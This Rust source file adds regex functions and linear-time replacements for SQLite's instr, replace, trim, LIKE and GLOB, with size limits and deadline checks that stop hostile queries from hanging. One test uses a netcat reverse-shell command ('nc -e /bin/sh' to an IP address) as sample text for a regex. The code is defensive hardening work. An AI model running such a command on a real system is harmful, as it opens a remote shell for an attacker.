//! The SQL functions beyond SQLite's core, `REGEXP` and `regex_match(text, pattern, group)`,
//! and our replacements for the core functions whose SQLite versions take quadratic time.
//!
//! SQLite's time budget (the progress handler in `sandbox`) runs between virtual-machine
//! instructions, so it cannot stop one slow function call. SQLite's `instr`, `replace`,
//! `trim`/`ltrim`/`rtrim` (with a character set), `LIKE` and `GLOB` are quadratic in the worst
//! case: the hostile-query corpus found single calls on a few megabytes that ran for minutes
//! (`instr` of a 2 MB needle in 4 MB: 250 s). They are replaced here, under the same names, by
//! linear versions: substring search with the standard library's two-way searcher, character
//! sets in a hash set, and LIKE / GLOB patterns compiled once per statement and matched by code
//! whose matchers look at the query's deadline (LIKE and GLOB: the greedy wildcard algorithm,
//! quadratic at worst like SQLite's, but interruptible).
//!
//! Patterns are Rust `regex` syntax (linear time: no look-around, no backreferences), so a
//! hostile pattern cannot backtrack for hours. Each pattern is bounded in length and in compiled
//! size, and compiled patterns are cached twice: per statement in SQLite's auxiliary data (the
//! common case of a constant pattern), and per connection in a small map, so that the same
//! pattern in many rules is compiled once.

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::{Arc, Mutex, PoisonError};

use regex::{Regex, RegexBuilder};
use rusqlite::Connection;
use rusqlite::functions::{Context, FunctionFlags};
use rusqlite::types::{Value, ValueRef};

/// The longest pattern accepted, in bytes.
pub const MAX_PATTERN_BYTES: usize = 4096;
/// The most memory one compiled pattern may take.
const MAX_COMPILED_BYTES: usize = 2 * 1024 * 1024;
/// Patterns kept in the per-connection cache before it is emptied.
const CACHE_ENTRIES: usize = 512;
/// The longest LIKE or GLOB pattern. `sandbox` also sets SQLite's
/// `SQLITE_LIMIT_LIKE_PATTERN_LENGTH` to it, though SQLite's LIKE is replaced here.
pub const MAX_LIKE_PATTERN_BYTES: usize = 4096;
/// The longest string or blob a query may build; `sandbox` sets SQLite's `SQLITE_LIMIT_LENGTH`
/// to it, and `replace` here checks it.
pub const MAX_VALUE_BYTES: usize = 4 * 1024 * 1024;

type Cache = Arc<Mutex<HashMap<String, Arc<Regex>>>>;

/// Registers `regexp` (the `REGEXP` operator), `regex_match` and the linear core functions on
/// `conn`; `deadline` is the running query's (the matchers that can be slow look at it).
pub fn register(conn: &Connection, deadline: Deadline) -> rusqlite::Result<()> {
    let flags = FunctionFlags::SQLITE_UTF8 | FunctionFlags::SQLITE_DETERMINISTIC;
    let cache: Cache = Arc::default();
    let for_regexp = Arc::clone(&cache);
    // `X REGEXP Y` calls regexp(Y, X): the pattern comes first.
    conn.create_scalar_function("regexp", 2, flags, move |ctx| {
        let regex = pattern(ctx, 0, &for_regexp)?;
        Ok(text(ctx, 1)?.map(|text| regex.is_match(text)))
    })?;
    conn.create_scalar_function("regex_match", 3, flags, move |ctx| {
        let regex = pattern(ctx, 1, &cache)?;
        let group = match ctx.get_raw(2) {
            ValueRef::Integer(group) => usize::try_from(group)
                .map_err(|_| user_error(format!("regex_match: group {group} is negative")))?,
            ValueRef::Null => return Ok(Value::Null),
            _ => return Err(user_error("regex_match: the group must be an integer")),
        };
        let Some(text) = text(ctx, 0)? else {
            return Ok(Value::Null);
        };
        Ok(regex
            .captures(text)
            .and_then(|captures| captures.get(group))
            .map_or(Value::Null, |found| Value::Text(found.as_str().to_owned())))
    })?;
    register_linear_core(conn, flags, deadline)
}

/// The linear replacements of SQLite's quadratic core functions (see the module doc).
fn register_linear_core(
    conn: &Connection,
    flags: FunctionFlags,
    deadline: Deadline,
) -> rusqlite::Result<()> {
    conn.create_scalar_function("instr", 2, flags, |ctx| {
        let (Some(haystack), Some(needle)) = (loose_text(ctx, 0), loose_text(ctx, 1)) else {
            return Ok(None);
        };
        // Positions count characters, as SQLite's do for text.
        Ok(Some(haystack.find(needle.as_ref()).map_or(0, |at| {
            i64::try_from(haystack[..at].chars().count()).unwrap_or(i64::MAX) + 1
        })))
    })?;
    conn.create_scalar_function("replace", 3, flags, |ctx| {
        let (Some(text), Some(from), Some(to)) =
            (loose_text(ctx, 0), loose_text(ctx, 1), loose_text(ctx, 2))
        else {
            return Ok(None);
        };
        if from.is_empty() {
            return Ok(Some(text.into_owned()));
        }
        let count = text.matches(from.as_ref()).count();
        let size = text.len() - count * from.len() + count.saturating_mul(to.len());
        if size > MAX_VALUE_BYTES {
            return Err(user_error("string or blob too big"));
        }
        Ok(Some(text.replace(from.as_ref(), &to)))
    })?;
    for (name, start, end) in [
        ("trim", true, true),
        ("ltrim", true, false),
        ("rtrim", false, true),
    ] {
        for arguments in [1, 2] {
            conn.create_scalar_function(name, arguments, flags, move |ctx| {
                let Some(text) = loose_text(ctx, 0) else {
                    return Ok(None);
                };
                let set: HashSet<char> = if arguments == 2 {
                    match loose_text(ctx, 1) {
                        Some(set) => set.chars().collect(),
                        None => return Ok(None),
                    }
                } else {
                    HashSet::from([' '])
                };
                let mut trimmed: &str = &text;
                if start {
                    trimmed = trimmed.trim_start_matches(|c| set.contains(&c));
                }
                if end {
                    trimmed = trimmed.trim_end_matches(|c| set.contains(&c));
                }
                Ok(Some(trimmed.to_owned()))
            })?;
        }
    }
    for arguments in [2, 3] {
        let deadline = deadline.clone();
        conn.create_scalar_function("like", arguments, flags, move |ctx| {
            wildcard_match(ctx, Wildcard::Like, arguments == 3, &deadline)
        })?;
    }
    conn.create_scalar_function("glob", 2, flags, move |ctx| {
        wildcard_match(ctx, Wildcard::Glob, false, &deadline)
    })
}

/// Argument `index` as text the way SQLite converts it: numbers in their text form, blobs as
/// (lossy) UTF-8; `None` for NULL.
fn loose_text<'a>(ctx: &'a Context<'_>, index: usize) -> Option<Cow<'a, str>> {
    match ctx.get_raw(index) {
        ValueRef::Null => None,
        ValueRef::Text(bytes) | ValueRef::Blob(bytes) => Some(String::from_utf8_lossy(bytes)),
        ValueRef::Integer(value) => Some(Cow::Owned(value.to_string())),
        ValueRef::Real(value) => Some(Cow::Owned(value.to_string())),
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Wildcard {
    /// `%`, `_`, an optional escape character, ASCII case folded.
    Like,
    /// `*`, `?`, `[...]`, case-sensitive.
    Glob,
}

/// One element of a compiled LIKE or GLOB pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Elem {
    /// `%` or `*`: any run of characters.
    Star,
    /// `_` or `?`: exactly one character.
    One,
    /// A literal character (lowercased for LIKE).
    Lit(char),
    /// A GLOB set `[a-z]` or `[^…]`.
    Set {
        negate: bool,
        ranges: Vec<(char, char)>,
    },
}

/// A compiled LIKE or GLOB pattern, kept in the statement's auxiliary data with the escape
/// character it was compiled for.
struct Compiled {
    escape: Option<char>,
    elems: Vec<Elem>,
    ascii: bool,
}

/// `X LIKE P [ESCAPE E]` is like(P, X[, E]); `X GLOB P` is glob(P, X).
fn wildcard_match(
    ctx: &Context<'_>,
    kind: Wildcard,
    has_escape: bool,
    deadline: &Deadline,
) -> rusqlite::Result<Option<bool>> {
    let escape = if has_escape {
        let Some(escape) = loose_text(ctx, 2) else {
            return Ok(None);
        };
        let mut chars = escape.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => Some(c),
            _ => return Err(user_error("ESCAPE expression must be a single character")),
        }
    } else {
        None
    };
    let (Some(pattern), Some(text)) = (loose_text(ctx, 0), loose_text(ctx, 1)) else {
        return Ok(None);
    };
    if pattern.len() > MAX_LIKE_PATTERN_BYTES {
        return Err(user_error("LIKE or GLOB pattern too complex"));
    }
    let cached = ctx
        .get_aux::<Compiled>(0)?
        .filter(|compiled| compiled.escape == escape);
    let compiled = match cached {
        Some(compiled) => compiled,
        None => {
            let elems = match kind {
                Wildcard::Like => parse_like(&pattern, escape),
                Wildcard::Glob => parse_glob(&pattern),
            };
            let ascii = elems.iter().all(|elem| match elem {
                Elem::Lit(c) => c.is_ascii(),
                Elem::Set { ranges, .. } => ranges
                    .iter()
                    .all(|(low, high)| low.is_ascii() && high.is_ascii()),
                Elem::Star | Elem::One => true,
            });
            // Only a constant pattern keeps its auxiliary data; otherwise this is dropped.
            ctx.set_aux(
                0,
                Compiled {
                    escape,
                    elems,
                    ascii,
                },
            )?
        }
    };
    let fold = kind == Wildcard::Like;
    let matched = if compiled.ascii && text.is_ascii() {
        // The common case needs no copy: ASCII bytes are characters.
        wildcard(&compiled.elems, text.as_bytes(), fold, deadline)
    } else {
        let chars: Vec<char> = text.chars().collect();
        wildcard(&compiled.elems, &chars, fold, deadline)
    };
    matched.map(Some)
}

/// A LIKE pattern's elements: `%`, `_`, literals lowercased (SQLite folds ASCII only).
fn parse_like(pattern: &str, escape: Option<char>) -> Vec<Elem> {
    let mut elems = Vec::with_capacity(pattern.len());
    let mut chars = pattern.chars();
    while let Some(c) = chars.next() {
        let elem = if Some(c) == escape {
            // The escape character makes the next one literal (and itself, at the end).
            Elem::Lit(chars.next().unwrap_or(c).to_ascii_lowercase())
        } else if c == '%' {
            Elem::Star
        } else if c == '_' {
            Elem::One
        } else {
            Elem::Lit(c.to_ascii_lowercase())
        };
        // Consecutive stars are one star.
        if !(elem == Elem::Star && elems.last() == Some(&Elem::Star)) {
            elems.push(elem);
        }
    }
    elems
}

/// A GLOB pattern's elements. An unclosed `[` matches nothing, as in SQLite: it becomes an
/// empty set.
fn parse_glob(pattern: &str) -> Vec<Elem> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut elems = Vec::with_capacity(chars.len());
    let mut i = 0;
    while i < chars.len() {
        let elem = match chars[i] {
            '*' => Elem::Star,
            '?' => Elem::One,
            '[' => {
                let mut j = i + 1;
                let negate = chars.get(j) == Some(&'^');
                if negate {
                    j += 1;
                }
                let first = j;
                // A `]` right after `[` or `[^` is a member, not the end.
                if chars.get(j) == Some(&']') {
                    j += 1;
                }
                while j < chars.len() && chars[j] != ']' {
                    j += 1;
                }
                if j >= chars.len() {
                    return vec![Elem::Set {
                        negate: false,
                        ranges: Vec::new(),
                    }];
                }
                let members = &chars[first..j];
                let mut ranges = Vec::new();
                let mut k = 0;
                while k < members.len() {
                    if k + 2 < members.len() && members[k + 1] == '-' {
                        ranges.push((members[k], members[k + 2]));
                        k += 3;
                    } else {
                        ranges.push((members[k], members[k]));
                        k += 1;
                    }
                }
                i = j;
                Elem::Set { negate, ranges }
            }
            c => Elem::Lit(c),
        };
        if !(elem == Elem::Star && elems.last() == Some(&Elem::Star)) {
            elems.push(elem);
        }
        i += 1;
    }
    elems
}

/// The error of a function that stopped at the query's deadline (`sandbox` reports the query
/// as stopped).
pub const OVER_BUDGET: &str = "interrupted: over the query's time budget";

/// Steps of the matcher between two looks at the clock.
const STEPS_PER_CLOCK_CHECK: u64 = 1 << 16;

/// Matches `text` against `elems`: the greedy wildcard algorithm, which only ever returns to
/// the last star. Its worst case is O(text × pattern), so it looks at the query's deadline
/// every [`STEPS_PER_CLOCK_CHECK`] steps and fails the query once it has passed.
fn wildcard<U: Copy + Into<char>>(
    elems: &[Elem],
    text: &[U],
    fold: bool,
    deadline: &Deadline,
) -> rusqlite::Result<bool> {
    let one = |elem: &Elem, unit: U| -> bool {
        let c: char = unit.into();
        match elem {
            Elem::One => true,
            Elem::Lit(lit) => {
                if fold {
                    c.to_ascii_lowercase() == *lit
                } else {
                    c == *lit
                }
            }
            Elem::Set { negate, ranges } => {
                ranges.iter().any(|(low, high)| (*low..=*high).contains(&c)) != *negate
            }
            Elem::Star => false,
        }
    };
    let (mut p, mut t) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    let mut steps: u64 = 0;
    while t < text.len() {
        steps += 1;
        if steps.is_multiple_of(STEPS_PER_CLOCK_CHECK) && deadline.passed() {
            return Err(user_error(OVER_BUDGET));
        }
        match elems.get(p) {
            Some(Elem::Star) => {
                star = Some((p, t));
                p += 1;
            }
            Some(elem) if one(elem, text[t]) => {
                p += 1;
                t += 1;
            }
            _ => match star {
                Some((star_p, star_t)) => {
                    p = star_p + 1;
                    t = star_t + 1;
                    star = Some((star_p, star_t + 1));
                }
                None => return Ok(false),
            },
        }
    }
    Ok(elems[p..].iter().all(|elem| *elem == Elem::Star))
}

/// The deadline of the query running on a connection (shared with `sandbox`'s progress
/// handler): nanoseconds after `epoch`, `u64::MAX` for none.
#[derive(Debug, Clone)]
pub struct Deadline {
    /// The deadline.
    pub at: Arc<std::sync::atomic::AtomicU64>,
    /// What `at` counts from.
    pub epoch: std::time::Instant,
}

impl Deadline {
    /// No deadline.
    pub fn none() -> Self {
        Self {
            at: Arc::new(std::sync::atomic::AtomicU64::new(u64::MAX)),
            epoch: std::time::Instant::now(),
        }
    }

    /// Whether the deadline has passed.
    pub fn passed(&self) -> bool {
        let at = self.at.load(std::sync::atomic::Ordering::Relaxed);
        at != u64::MAX
            && u64::try_from(self.epoch.elapsed().as_nanos()).unwrap_or(u64::MAX - 1) > at
    }
}

/// The text argument `index`: `None` for NULL; numbers are matched in their text form, as
/// SQLite's own LIKE does.
fn text<'a>(ctx: &'a Context<'_>, index: usize) -> rusqlite::Result<Option<&'a str>> {
    match ctx.get_raw(index) {
        ValueRef::Null => Ok(None),
        ValueRef::Text(bytes) => std::str::from_utf8(bytes)
            .map(Some)
            .map_err(|_| user_error("regexp: the text is not UTF-8")),
        // Numbers are rare in pattern matching; their text form is what a user expects.
        ValueRef::Integer(_) | ValueRef::Real(_) | ValueRef::Blob(_) => {
            Err(user_error("regexp: only text can be matched"))
        }
    }
}

/// The compiled pattern in argument `index`, from the statement's auxiliary data, the cache, or
/// compiled now.
fn pattern(ctx: &Context<'_>, index: usize, cache: &Cache) -> rusqlite::Result<Arc<Regex>> {
    // The argument index always fits: our functions take two or three.
    let slot = i32::try_from(index).unwrap_or(i32::MAX);
    let regex: Arc<Arc<Regex>> = ctx.get_or_create_aux(slot, |value| -> Result<_, String> {
        let ValueRef::Text(bytes) = value else {
            return Err("regexp: the pattern must be text".to_owned());
        };
        let source = std::str::from_utf8(bytes).map_err(|_| "regexp: the pattern is not UTF-8")?;
        compile(source, cache)
    })?;
    Ok(Arc::clone(&regex))
}

/// Compiles `source` within the bounds, through the cache.
fn compile(source: &str, cache: &Cache) -> Result<Arc<Regex>, String> {
    if source.len() > MAX_PATTERN_BYTES {
        return Err(format!(
            "regexp: the pattern is {} bytes long, more than the {MAX_PATTERN_BYTES} allowed",
            source.len()
        ));
    }
    // A poisoned cache only means another rule's thread panicked mid-insert; the map is
    // still a valid map.
    let mut cached = cache.lock().unwrap_or_else(PoisonError::into_inner);
    if let Some(regex) = cached.get(source) {
        return Ok(Arc::clone(regex));
    }
    let regex = RegexBuilder::new(source)
        .size_limit(MAX_COMPILED_BYTES)
        .dfa_size_limit(MAX_COMPILED_BYTES)
        .build()
        .map_err(|err| {
            let first_line = err.to_string();
            let reason = first_line
                .lines()
                .last()
                .unwrap_or("invalid pattern")
                .trim();
            format!("regexp: invalid pattern {source:?}: {reason}")
        })?;
    if cached.len() >= CACHE_ENTRIES {
        cached.clear();
    }
    let regex = Arc::new(regex);
    cached.insert(source.to_owned(), Arc::clone(&regex));
    Ok(regex)
}

fn user_error(message: impl Into<String>) -> rusqlite::Error {
    rusqlite::Error::UserFunctionError(message.into().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn conn() -> Connection {
        let conn = Connection::open_in_memory().unwrap();
        register(&conn, Deadline::none()).unwrap();
        conn
    }

    fn check(sql: &str, expected: Value) {
        let got: Value = conn()
            .query_row(sql, [], |row| row.get(0))
            .unwrap_or_else(|err| panic!("{sql}: {err}"));
        assert_eq!(got, expected, "{sql}");
    }

    #[test]
    fn regexp_and_regex_match() {
        check("SELECT 'abc' REGEXP 'b+'", Value::Integer(1));
        check("SELECT 'abc' REGEXP '^b'", Value::Integer(0));
        check("SELECT NULL REGEXP 'b'", Value::Null);
        check(
            "SELECT regex_match('nc -e /bin/sh 10.0.0.1', '-e (\\S+)', 1)",
            Value::Text("/bin/sh".into()),
        );
        check("SELECT regex_match('abc', 'x(y)', 1)", Value::Null);
        check("SELECT regex_match('abc', '(b)', 5)", Value::Null);
        check("SELECT regex_match(NULL, '(b)', 1)", Value::Null);
    }

    #[test]
    fn bad_patterns_fail_the_query_with_a_reason() {
        let conn = conn();
        for (sql, reason) in [
            ("SELECT 'a' REGEXP '('", "invalid pattern"),
            ("SELECT 'a' REGEXP '(?=a)'", "invalid pattern"),
            ("SELECT 'a' REGEXP 5", "the pattern must be text"),
            ("SELECT regex_match('a', 'a', -1)", "is negative"),
            ("SELECT 5 REGEXP 'a'", "only text can be matched"),
        ] {
            let err = conn
                .query_row(sql, [], |row| row.get::<_, Value>(0))
                .unwrap_err();
            assert!(err.to_string().contains(reason), "{sql}: {err}");
        }
        let long = format!("SELECT 'a' REGEXP '{}'", "a".repeat(MAX_PATTERN_BYTES + 1));
        let err = conn
            .query_row(&long, [], |row| row.get::<_, Value>(0))
            .unwrap_err();
        assert!(
            err.to_string().contains("more than the 4096 allowed"),
            "{err}"
        );
        // A pattern whose compiled form is too big: a{1000} nested.
        let huge = "SELECT 'a' REGEXP '((a{100}){100}){100}'";
        let err = conn
            .query_row(huge, [], |row| row.get::<_, Value>(0))
            .unwrap_err();
        assert!(err.to_string().contains("invalid pattern"), "{err}");
    }

    #[test]
    fn linear_core_functions_answer_as_sqlite_does() {
        // Expected values are SQLite's own answers (checked with the sqlite3 shell).
        let i = Value::Integer;
        let t = |text: &str| Value::Text(text.to_owned());
        for (sql, expected) in [
            ("SELECT instr('hello world', 'o')", i(5)),
            ("SELECT instr('héllo', 'l')", i(3)),
            ("SELECT instr('abc', 'x')", i(0)),
            ("SELECT instr('abc', '')", i(1)),
            ("SELECT instr(NULL, 'a')", Value::Null),
            ("SELECT instr(12345, 34)", i(3)),
            ("SELECT replace('a-b-c', '-', '+')", t("a+b+c")),
            ("SELECT replace('abc', '', 'x')", t("abc")),
            ("SELECT replace('abc', 'b', NULL)", Value::Null),
            ("SELECT trim('  x  ')", t("x")),
            ("SELECT ltrim('  x  ')", t("x  ")),
            ("SELECT rtrim('  x  ')", t("  x")),
            ("SELECT trim('xxhixy', 'xy')", t("hi")),
            ("SELECT ltrim('/usr/bin', '/')", t("usr/bin")),
            ("SELECT 'Hello' LIKE 'h%'", i(1)),
            ("SELECT 'Hello' LIKE 'h_llo'", i(1)),
            ("SELECT 'Hello' LIKE 'h_lo'", i(0)),
            ("SELECT 'a%b' LIKE 'a\\%b' ESCAPE '\\'", i(1)),
            ("SELECT 'axb' LIKE 'a\\%b' ESCAPE '\\'", i(0)),
            ("SELECT '/tmp/x' LIKE '/tmp/%' ESCAPE '\\'", i(1)),
            (
                "SELECT 'line1
line2' LIKE 'line1%2'",
                i(1),
            ),
            ("SELECT 'a.b' LIKE 'a.b'", i(1)),
            ("SELECT 'aXb' LIKE 'a.b'", i(0)),
            ("SELECT 123 LIKE '1%'", i(1)),
            ("SELECT NULL LIKE 'a'", Value::Null),
            ("SELECT 'abc' NOT LIKE 'a%'", i(0)),
            ("SELECT 'Hello' GLOB 'H*'", i(1)),
            ("SELECT 'Hello' GLOB 'h*'", i(0)),
            ("SELECT 'Hello' GLOB 'H?llo'", i(1)),
            ("SELECT 'b' GLOB '[a-c]'", i(1)),
            ("SELECT 'd' GLOB '[^a-c]'", i(1)),
            ("SELECT ']' GLOB '[]]'", i(1)),
            ("SELECT '[' GLOB '['", i(0)),
            ("SELECT 'a.c' GLOB 'a.c'", i(1)),
        ] {
            check(sql, expected);
        }
        let conn = conn();
        let err = conn
            .query_row("SELECT 'a' LIKE 'a' ESCAPE 'ab'", [], |row| {
                row.get::<_, Value>(0)
            })
            .unwrap_err();
        assert!(err.to_string().contains("single character"), "{err}");
        let long = format!(
            "SELECT 'a' LIKE '{}'",
            "%".repeat(MAX_LIKE_PATTERN_BYTES + 1)
        );
        let err = conn
            .query_row(&long, [], |row| row.get::<_, Value>(0))
            .unwrap_err();
        assert!(err.to_string().contains("pattern too complex"), "{err}");
    }

    #[test]
    fn worst_cases_of_the_quadratic_originals_return() {
        // Each of these ran for minutes with SQLite's own functions (see the module doc);
        // the point is that they return at all, with the right answer.
        for (sql, expected) in [
            (
                "SELECT instr(printf('%.*c', 4000000, 'a'), printf('%.*c', 2000000, 'a') || 'b')",
                Value::Integer(0),
            ),
            (
                "SELECT length(trim(printf('%.*c', 2000000, 'a'), printf('%.*c', 2000000, 'b') || 'a'))",
                Value::Integer(0),
            ),
            (
                "SELECT length(replace(printf('%.*c', 4000000, 'a'), printf('%.*c', 2000000, 'a') || 'b', ''))",
                Value::Integer(4_000_000),
            ),
        ] {
            check(sql, expected);
        }
    }

    #[test]
    fn the_cache_returns_the_same_compiled_pattern() {
        let cache: Cache = Arc::default();
        let first = compile("a+b", &cache).unwrap();
        let second = compile("a+b", &cache).unwrap();
        assert!(Arc::ptr_eq(&first, &second));
        for i in 0..CACHE_ENTRIES {
            compile(&format!("x{i}"), &cache).unwrap();
        }
        assert!(cache.lock().unwrap().len() <= CACHE_ENTRIES);
    }
}
